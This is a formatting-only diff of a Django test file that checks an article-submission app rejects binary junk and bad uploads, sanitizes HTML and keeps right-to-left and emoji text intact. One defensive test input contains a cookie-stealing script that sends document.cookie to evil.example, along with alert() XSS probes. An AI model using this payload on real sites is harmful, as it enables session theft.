@@ -49,24 +49,30 @@ def test_a_paste_too_big_to_read_gets_a_clear_page_not_a_500(submit, settings):
     assert not Article.objects.exists()
 
 
-@pytest.mark.parametrize("text, message", [
-    (CLAIM + "\x00\x00", "NUL bytes"),
-    ("".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)) * 50 + CLAIM, "binary data"),
-    ("\ufffd\ufffd\x07\x1b" * 200 + CLAIM, "binary data"),
-])
+@pytest.mark.parametrize(
+    "text, message",
+    [
+        (CLAIM + "\x00\x00", "NUL bytes"),
+        ("".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)) * 50 + CLAIM, "binary data"),
+        ("\ufffd\ufffd\x07\x1b" * 200 + CLAIM, "binary data"),
+    ],
+)
 def test_binary_junk_is_refused(submit, text, message):
     refused(submit(text=text), message)
 
 
-@pytest.mark.parametrize("name, content, message", [
-    ("article.txt", b"\xff\xfe\x00\xd8bad bytes \xc3\x28", "not valid UTF-8"),
-    ("page.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not valid UTF-8"),
-    ("report.pdf", b"%PDF-1.7", "Upload an .html, .htm or .txt file."),
-    ("run.exe", b"MZ\x90\x00", "Upload an .html, .htm or .txt file."),
-    ("noextension", CLAIM.encode(), "Upload an .html, .htm or .txt file."),
-    ("empty.txt", b"", "The submitted file is empty."),
-    ("nul.txt", CLAIM.encode() + b"\x00", "NUL bytes"),
-])
+@pytest.mark.parametrize(
+    "name, content, message",
+    [
+        ("article.txt", b"\xff\xfe\x00\xd8bad bytes \xc3\x28", "not valid UTF-8"),
+        ("page.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not valid UTF-8"),
+        ("report.pdf", b"%PDF-1.7", "Upload an .html, .htm or .txt file."),
+        ("run.exe", b"MZ\x90\x00", "Upload an .html, .htm or .txt file."),
+        ("noextension", CLAIM.encode(), "Upload an .html, .htm or .txt file."),
+        ("empty.txt", b"", "The submitted file is empty."),
+        ("nul.txt", CLAIM.encode() + b"\x00", "NUL bytes"),
+    ],
+)
 def test_bad_uploads_are_refused(submit, name, content, message):
     refused(submit(file=SimpleUploadedFile(name, content)), message)
 
@@ -86,9 +92,11 @@ def test_text_url_and_file_together_are_refused(submit):
 
 
 def test_html_with_script_is_cleaned_before_extraction(submit):
-    html = (f"<html><head><script>document.location='https://evil.example/?c='+document.cookie</script></head>"
-            f"<body><article><h1>Bridges</h1><p>{CLAIM}</p><script>alert(1)</script>"
-            f"<p onclick=\"alert(2)\">Officials said the bridges carry 40,000 cars a day.</p></article></body></html>")
+    html = (
+        f"<html><head><script>document.location='https://evil.example/?c='+document.cookie</script></head>"
+        f"<body><article><h1>Bridges</h1><p>{CLAIM}</p><script>alert(1)</script>"
+        f'<p onclick="alert(2)">Officials said the bridges carry 40,000 cars a day.</p></article></body></html>'
+    )
     assert submit(text=html).status_code == 302
     article = services.article_extract(Article.objects.get().pk)
     assert article.status == Article.Status.READY
@@ -107,14 +115,16 @@ def test_a_100k_character_single_line_is_handled(submit, reviewer_client):
 
 
 def test_right_to_left_and_emoji_text_is_kept_intact(submit, reviewer_client):
-    text = ("قال رئيس البلدية إن المجلس أنفق 5 ملايين دولار على 12 جسراً في عام 2024.\n\n"
-            "ראש העירייה אמר כי המועצה הוציאה 5 מיליון דולר על 12 גשרים ב-2024.\n\n"
-            f"{CLAIM} 🌉👩‍👩‍👧 The mayor 🧑🏽‍💼 said 40,000 cars cross the bridges every day.")
+    text = (
+        "قال رئيس البلدية إن المجلس أنفق 5 ملايين دولار على 12 جسراً في عام 2024.\n\n"
+        "ראש העירייה אמר כי המועצה הוציאה 5 מיליון דולר על 12 גשרים ב-2024.\n\n"
+        f"{CLAIM} 🌉👩‍👩‍👧 The mayor 🧑🏽‍💼 said 40,000 cars cross the bridges every day."
+    )
     assert submit(text=text).status_code == 302
     article = services.article_extract(Article.objects.get().pk)
     assert article.status == Article.Status.READY
     assert "أنفق 5 ملايين" in article.text and "👩‍👩‍👧" in article.text and "הוציאה" in article.text
     for appearance in article.appearances.all():
-        assert article.text[appearance.start:appearance.end] == appearance.text  # offsets survive emoji
+        assert article.text[appearance.start : appearance.end] == appearance.text  # offsets survive emoji
     body = reviewer_client.get(article.get_absolute_url()).content.decode()
     assert "أنفق 5 ملايين" in body and "👩‍👩‍👧" in body
